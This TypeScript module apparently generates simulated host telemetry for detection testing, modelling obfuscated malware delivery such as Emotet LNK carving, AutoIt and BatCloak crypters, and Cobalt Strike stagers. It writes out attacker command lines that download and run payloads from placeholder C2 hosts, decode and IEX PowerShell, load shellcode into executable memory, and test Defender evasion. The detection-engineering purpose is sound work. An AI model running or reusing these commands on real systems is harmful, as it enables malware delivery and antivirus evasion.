import { encodePowerShell } from "../../curated/common";
import { v } from "../dsl";
import type { Variant } from "../types";

/**
 * Obfuscation sub-technique variants as loaders and crimeware actually deliver them (T1027.x), kept apart from
 * the defense-evasion table so its rows stay short. Each models the delivery and run of the obfuscated payload,
 * which is what host telemetry sees.
 */

/** Cobalt Strike style PowerShell stager: a gzip blob decoded and run in memory (outer layer of the payload). */
const GZIP_STAGER =
  '$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAAAAK1X+2/aSBD+OX/FqrJqWwUHCs21kSJdMJBwDQ2teYRSdCy2gW1sL7XXvNL87zf7ICGPtr3TWQK8u7Oz33zz7cywRl/urq8M7c+s4dxqmvsm09dXjVu17t1q3Svk1nxXstq85XsfNXt0efPXZrtNX1pmRe7q0erxR8b2Na2b+qWJr+XJ4TC/W/J8TX7t2N6vkxkv7wA"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();';

/** What the stager decompresses: shellcode whose runner resolves Win32 APIs through reflection, not imports. */
const API_RESOLVER =
  "function Get-Proc($dll, $fn) { $unm = ([AppDomain]::CurrentDomain.GetAssemblies() | Where-Object { $_.GlobalAssemblyCache -and $_.Location.EndsWith('System.dll') }).GetType('Microsoft.Win32.UnsafeNativeMethods'); $h = $unm.GetMethod('GetModuleHandle').Invoke($null, @($dll)); $unm.GetMethod('GetProcAddress', [Type[]]@([Runtime.InteropServices.HandleRef], [string])).Invoke($null, @([Runtime.InteropServices.HandleRef](New-Object Runtime.InteropServices.HandleRef((New-Object IntPtr), $h)), $fn)) }; [Byte[]]$sc = [Convert]::FromBase64String($blob); for ($i = 0; $i -lt $sc.Count; $i++) { $sc[$i] = $sc[$i] -bxor 35 }; $va = [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((Get-Proc kernel32.dll VirtualAlloc), $vaType); $mem = $va.Invoke([IntPtr]::Zero, $sc.Length, 0x3000, 0x40); [Runtime.InteropServices.Marshal]::Copy($sc, 0, $mem, $sc.Length)";

const STAGER_B64 = encodePowerShell(GZIP_STAGER);

export const paddingVariants: Variant[] = [
  // Emotet/IcedID-era droppers inflate the payload with zero bytes past scanner size limits before running it.
  v(
    "inflated-dll-dropper",
    [
      {
        cmd: 'C:\\Windows\\System32\\WScript.exe "{{downloads}}\\{{$lure}}.js"',
        as: "ws",
        parent: "@explorer",
        files: ["C:\\Users\\Public\\{{rand}}.txt"],
      },
      {
        cmd: "powershell.exe -w hidden -c \"$b=[Convert]::FromBase64String([IO.File]::ReadAllText('C:\\Users\\Public\\{{rand}}.txt'));[IO.File]::WriteAllBytes('{{local}}\\{{rand}}.dll',$b+(New-Object byte[] 524288000))\"",
        parent: "ws",
        files: ["{{local}}\\{{rand}}.dll"],
      },
      {
        cmd: "rundll32.exe {{local}}\\{{rand}}.dll,{{DllRegisterServer|Start|#1}}",
        parent: "ws",
        net: [["{{c2}}", 443]],
      },
    ],
    { shell: "none", vars: { lure: "{{Invoice|Statement|Remittance}}_{{n}}" } },
  ),
];

export const packingVariants: Variant[] = [
  // PyInstaller one-file bundles unpack the interpreter to %TEMP%\_MEI… and re-launch themselves to load it.
  v(
    "pyinstaller-onefile",
    [
      {
        cmd: '"{{downloads}}\\{{$app}}.exe" ',
        as: "boot",
        parent: "@explorer",
        files: [
          "{{tmp}}\\_MEI{{n}}\\python311.dll",
          "{{tmp}}\\_MEI{{n}}\\base_library.zip",
          "{{tmp}}\\_MEI{{n}}\\VCRUNTIME140.dll",
        ],
      },
      {
        cmd: '"{{downloads}}\\{{$app}}.exe" ',
        parent: "boot",
        loads: ["{{tmp}}\\_MEI{{n}}\\VCRUNTIME140.dll", "{{tmp}}\\_MEI{{n}}\\python311.dll"],
        net: [["{{c2}}", 443]],
      },
    ],
    { shell: "none", vars: { app: "{{Setup|Installer|Update}}_{{rand}}" } },
  ),
  // Lumma/DarkGate-style AutoIt crypters: an installer's batch rebuilds a renamed AutoIt3.exe from chunks and
  // runs it on the compiled script that carries the encrypted payload.
  v(
    "autoit-crypter",
    [
      { cmd: '"{{downloads}}\\{{$setup}}.exe" ', as: "s", parent: "@explorer", files: ["{{tmp}}\\{{$kit}}"] },
      {
        cmd: '"C:\\Windows\\System32\\cmd.exe" /c copy {{$kit}} {{$kit}}.cmd & {{$kit}}.cmd & exit',
        as: "c",
        parent: "s",
        cwd: "{{tmp}}",
        copies: [["C:\\Program Files (x86)\\AutoIt3\\AutoIt3.exe", "{{tmp}}\\{{n}}\\{{$pif}}.pif"]],
        files: ["{{tmp}}\\{{$kit}}.cmd", "{{tmp}}\\{{n}}\\Q"],
      },
      {
        cmd: "{{$pif}}.pif Q",
        image: "{{tmp}}\\{{n}}\\{{$pif}}.pif",
        parent: "c",
        cwd: "{{tmp}}\\{{n}}",
        net: [["{{c2}}", 443]],
      },
    ],
    {
      shell: "none",
      vars: {
        setup: "{{Setup|Installer}}_{{rand}}",
        kit: "{{Tanks|Pressed|Nature}}",
        pif: "{{Intensity|Eastern|Voyuer}}",
      },
    },
  ),
];

export const stegoVariants: Variant[] = [
  // Emotet (2022) LNKs: the VBScript is hidden after the shortcut's own data and carved out with findstr.
  v(
    "lnk-findstr-carve",
    [
      {
        cmd: 'C:\\Windows\\System32\\cmd.exe /v:on /c findstr "{{rand2}}.*" "{{$lure}}.lnk" > "%tmp%\\{{rand}}.vbs" & "%tmp%\\{{rand}}.vbs"',
        as: "c",
        parent: "@explorer",
        cwd: "{{downloads}}",
        files: ["{{tmp}}\\{{rand}}.vbs"],
      },
      {
        cmd: 'findstr  "{{rand2}}.*" "{{$lure}}.lnk"',
        parent: "c",
        cwd: "{{downloads}}",
        reads: ["{{downloads}}\\{{$lure}}.lnk"],
      },
      {
        cmd: '"C:\\Windows\\System32\\WScript.exe" "{{tmp}}\\{{rand}}.vbs" ',
        parent: "c",
        net: [["{{c2}}", 443]],
        files: ["{{local}}\\{{name}}\\{{rand}}.dll"],
      },
    ],
    { shell: "none", vars: { lure: "{{Form|Invoice|Scan}} {{n}}" } },
  ),
  // Invoke-PSImage output as a macro runs it: pixels of a hosted PNG rebuilt into the script.
  v(
    "psimage-oneliner",
    [
      {
        cmd: "powershell.exe -ExecutionPolicy Bypass -NoProfile -Command \"sal a New-Object;Add-Type -A System.Drawing;$g=a System.Drawing.Bitmap((a Net.WebClient).OpenRead('https://{{c2}}/img/{{rand}}.png'));$o=a Byte[] 3840;(0..1)|%{foreach($x in(0..1919)){$p=$g.GetPixel($x,$_);$o[$_*1920+$x]=([math]::Floor(($p.B-band15)*16)-bor($p.G-band15))}};IEX([System.Text.Encoding]::ASCII.GetString($o[0..3617]))\"",
        parent: "@explorer",
        net: [["{{c2}}", 443]],
      },
    ],
    { shell: "none" },
  ),
];

export const toolIndicatorVariants: Variant[] = [
  // DefenderCheck splits a tool into chunks and scans each with MpCmdRun to find the bytes to change.
  v("defendercheck", [
    {
      cmd: "{{tools}}\\DefenderCheck.exe {{tools}}\\{{rand}}.exe",
      as: "dc",
      files: ["C:\\Temp\\testfile.exe"],
    },
    {
      cmd: '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -Scan -ScanType 3 -File "C:\\Temp\\testfile.exe" -DisableRemediation -Trace -Level 0x10',
      parent: "dc",
      reads: ["C:\\Temp\\testfile.exe"],
    },
  ]),
  // SharpHound rebuilt with its name, version info and strings changed: only the behaviour is left.
  v("rebuilt-collector", [
    {
      cmd: "{{tools}}\\{{name}}.exe -c DCOnly --outputdirectory {{tools}} --zipfilename {{rand}}.zip",
      net: [["@dc", 389]],
      files: ["{{tools}}\\{{rand}}.zip"],
    },
  ]),
];

export const apiHashingVariants: Variant[] = [
  // A Cobalt Strike PowerShell stager persisted as a SYSTEM boot task, started by the Task Scheduler; the
  // shellcode runner it unpacks resolves its Win32 APIs at run time instead of importing them.
  v(
    "psh-stager-task",
    [
      {
        cmd: `powershell.exe -nop -w hidden -encodedcommand ${STAGER_B64}`,
        parent: "@svchost:Schedule",
        user: "@system",
        net: [["{{c2}}", 443]],
        then: [{ id: "inner", kind: "powershell.scriptblock", script: API_RESOLVER, delayMs: 400 }],
      },
    ],
    { shell: "none" },
  ),
];

export const strippedVariants: Variant[] = [
  // A stripped Go implant (Sliver-style) pulled from a bare IP with certutil and started.
  v("certutil-go-implant", [
    {
      cmd: "certutil.exe -urlcache -split -f http://{{c2ip}}/{{rand}}.exe C:\\Users\\Public\\{{name}}.exe",
      net: [["{{c2ip}}", 80]],
      files: ["C:\\Users\\Public\\{{name}}.exe"],
    },
    { cmd: "C:\\Users\\Public\\{{name}}.exe", net: [["{{c2}}", 443]] },
  ]),
];

export const embeddedVariants: Variant[] = [
  // A launcher carrying a .NET assembly as base64 and loading it reflectively (SharpHound, Rubeus, loaders).
  v(
    "reflective-assembly",
    [
      {
        ps: "[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAATAEDA{{rand2}}')).EntryPoint.Invoke($null, (, [string[]] @()))",
        encode: true,
        parent: "@explorer",
        net: [["{{c2}}", 443]],
      },
    ],
    { shell: "none" },
  ),
];

export const lnkIconVariants: Variant[] = [
  // The shortcut's icon points at a bare-IP URL; opening the folder caches it, the target pulls it from the cache.
  v(
    "icon-url-certutil",
    [
      { by: "@explorer", net: [["{{c2ip}}", 80]] },
      {
        cmd: "C:\\Windows\\System32\\cmd.exe /c certutil -urlcache -f http://{{c2ip}}/favicon.ico %TEMP%\\{{rand}}.exe && %TEMP%\\{{rand}}.exe",
        as: "c",
        parent: "@explorer",
      },
      {
        cmd: "certutil  -urlcache -f http://{{c2ip}}/favicon.ico {{tmp}}\\{{rand}}.exe",
        parent: "c",
        files: ["{{tmp}}\\{{rand}}.exe"],
      },
      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c", net: [["{{c2}}", 443]] },
    ],
    { shell: "none" },
  ),
];

export const polymorphicVariants: Variant[] = [
  // A Run-key launcher whose payload file is re-encrypted with a fresh one-byte XOR key on every start.
  v(
    "xor-rekeyed-script",
    [
      {
        cmd: "powershell.exe -nop -w hidden -c \"$k=0x{{$key}};iex(-join([IO.File]::ReadAllBytes('{{appdata}}\\{{name}}\\{{rand}}.dat')|%{[char]($_ -bxor $k)}))\"",
        parent: "@explorer",
        files: ["{{appdata}}\\{{name}}\\{{rand}}.dat"],
        net: [["{{c2}}", 443]],
      },
    ],
    { shell: "none", vars: { key: "{{3a|5c|7f|a1|c4|e9}}" } },
  ),
];

/** The Jlaive/BatCloak stage: the payload line of the .bat (":: " + base64) decrypted and loaded in memory. */
const JLAIVE_STAGE =
  "$l = [System.IO.File]::ReadAllText('{{$bat}}').Split([Environment]::NewLine);foreach ($x in $l) { if ($x.StartsWith(':: ')) { $p = $x.Substring(3); break; }; };$d = [System.Convert]::FromBase64String($p);$a = New-Object System.Security.Cryptography.AesManaged;$a.Mode = [System.Security.Cryptography.CipherMode]::CBC;$u = $a.CreateDecryptor().TransformFinalBlock($d, 0, $d.Length);[System.Reflection.Assembly]::Load($u).EntryPoint.Invoke($null, (, [string[]] ('')))";

export const junkCodeVariants: Variant[] = [
  // BatCloak/Jlaive batch crypters: junk-padded .bat copies powershell.exe beside itself and runs the hidden stage.
  v(
    "batcloak",
    [
      {
        cmd: 'C:\\Windows\\system32\\cmd.exe /c ""{{$bat}}" "',
        as: "b",
        parent: "@explorer",
        copies: [["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "{{$bat}}.exe"]],
      },
      {
        cmd: `"{{$bat}}.exe" -noprofile -windowstyle hidden -ep bypass -command ${JLAIVE_STAGE}`,
        ps: JLAIVE_STAGE,
        parent: "b",
        net: [["{{c2}}", 443]],
      },
    ],
    { shell: "none", vars: { bat: "{{downloads}}\\{{Invoice|Remittance|Payment}}_{{n}}.bat" } },
  ),
];
